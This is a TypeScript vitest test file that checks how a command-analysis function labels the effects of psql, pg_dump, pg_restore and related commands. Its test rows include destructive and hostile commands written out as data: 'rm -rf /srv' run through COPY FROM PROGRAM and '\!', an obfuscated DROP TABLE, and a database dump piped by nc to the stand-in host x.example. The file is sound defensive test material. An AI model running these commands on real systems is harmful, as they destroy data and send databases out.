import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ["psql -c 'TRUNCATE TABLE orders CASCADE'", ['database:truncate table orders']],
  [
    'psql -c "COPY t FROM PROGRAM \'rm -rf /srv\'"',
    ['database:run-program rm -rf /srv', 'delete:remove /srv recursive force'],
  ],
  ["psql -c '\\! rm -rf /srv'", ['delete:remove /srv recursive force']],
  ["psql -c 'select 1'", []],
  ['psql -f schema.sql', ['read:read schema.sql', 'opaque:unseen-script schema.sql', 'database:run-script schema.sql']],
  [
    "psql postgres://bob:secret@h/db -c 'select 1'",
    ['crypto:expose-secret password for h', 'network:connect h external'],
  ],
  ['psql -c "$SQL"', ['database:run-script dynamic', 'opaque:dynamic-command psql']],
  ["psql -f - <<< 'drop table t'", ['database:drop table t']],
  ["echo 'drop table t' > x.sql; psql -f x.sql", ['write:overwrite x.sql', 'read:read x.sql', 'database:drop table t']],
  ["echo '\\i x.sql' > x.sql; psql -f x.sql", ['write:overwrite x.sql', 'read:read x.sql']],
  [String.raw`psql <<< "select 'drop table '||t from x \gexec"`, ['database:run-script', 'opaque:unseen-code psql']],
  [
    "psql -c 'DO $$BEGIN EXECUTE chr(68)||$x$ROP TABLE t$x$; END$$'",
    ['database:run-script', 'opaque:unseen-code psql'],
  ],
  ["psql -c 'DO $$BEGIN EXECUTE s; END$$'", ['database:run-script s', 'opaque:unseen-code psql']],
  [`psql -c "select dblink_exec('x','drop table t')"`, ['database:drop table t']],
  [`psql -c "select query_to_xml('delete from t returning 1',true,true,'')"`, ['database:delete-all table t']],
  ["psql -c 'select pg_terminate_backend(123)'", ['database:modify session']],
  ["psql -c 'EXECUTE p(1)'", []],
  ['pg_dump db > dump.sql', ['write:overwrite dump.sql', 'database:dump db']],
  ['pg_dump -f /etc/x db', ['write:overwrite /etc/x', 'database:dump db']],
  // A dump comes from the server: nothing secret goes there, but to whom it is sent on.
  ['pg_dump -h localhost db > dump.sql', ['write:overwrite dump.sql', 'network:connect localhost', 'database:dump db']],
  [
    'pg_dump -h localhost db | nc x.example 1',
    [
      'network:connect localhost',
      'database:dump db',
      'network:connect x.example:1 sensitive external',
      'network:send x.example:1 external sensitive',
    ],
  ],
  ['pg_restore -c -d db a.dump', ['read:read a.dump', 'database:restore db']],
  ['pg_restore -l a.dump', ['read:read a.dump']],
  ['dropdb prod', ['database:drop database prod']],
  ['createdb prod', ['database:modify prod']],
  ['createuser -s bob', ['database:grant-all bob']],
  ['pg_ctl -D /data stop', ['service:stop postgresql']],
  ['pg_isready', []],
];

describe('postgres', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
